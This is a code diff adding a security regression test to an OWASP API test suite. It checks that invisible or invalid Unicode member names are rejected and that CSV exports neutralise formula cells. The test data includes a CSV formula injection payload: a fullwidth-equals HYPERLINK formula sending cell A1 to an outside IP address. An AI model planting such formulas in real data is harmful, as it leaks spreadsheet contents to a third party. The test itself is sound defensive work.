@@ -725,6 +725,29 @@ class OwaspApiTop10Test {
             }
             anonymous.get("/api/v1").expect(200);
         }
+
+        @Test
+        void textStoredOtherwiseThanSentOrShownAsNothingIsRefusedAndNoCsvCellIsAFormula() throws IOException {
+            String declarations = konwent(Y) + "/declarations";
+            String template = new ObjectMapper().writeValueAsString(Declarations.of("NAZWA"));
+            for (String name : List.of("\\ud800", "CIS \\udc00 Pniewy", "\\u200b\\u200d\\u2060",
+                    "\\u3164\\u00a0\\u2800")) {
+                JsonNode problem = departmentY.unvalidatedRequest().post(declarations,
+                        template.replace("NAZWA", name)).expect(422).json();
+                assertThat(problem.path("errors").findValuesAsText("field")).as(name).containsExactly("memberName");
+            }
+            assertThat(departmentY.get(declarations + "?limit=500").expect(200).body()).doesNotContain("\"?\"");
+
+            String formula = "\uFF1DHYPERLINK(\"http://93.184.215.14/\"&A1)";
+            Declarations.acceptedMember(departmentY, departmentY, Y, formula);
+            String csv = departmentY.get(konwent(Y) + "/members", "Accept", "text/csv").expect(200).body();
+
+            assertThat(csv).contains("\"'" + formula.replace("\"", "\"\"") + "\"");
+            for (String cell : csv.split("\r\n|,")) {
+                assertThat(cell).as(cell).doesNotStartWith("\"\uFF1D").doesNotStartWith("\"=")
+                        .doesNotStartWith("\"\uFF20").doesNotStartWith("\"@");
+            }
+        }
     }
 
     @Nested
@@ -842,7 +865,8 @@ class OwaspApiTop10Test {
                     if (takesKey) {
                         String key = "klucz-" + java.util.UUID.randomUUID();
                         probe(api, method, url, json, "Idempotency-Key", key);
-                        probes.put("Idempotency-Key", probe(api, method, url + "?inne=1", json, "Idempotency-Key", key));
+                        probes.put("Idempotency-Key",
+                                probe(api, method, url + "?inne=1", json, "Idempotency-Key", key));
                     }
                     probes.forEach((bad, answer) -> {
                         answered.computeIfAbsent(bad, any -> new TreeSet<>()).add(answer.status());
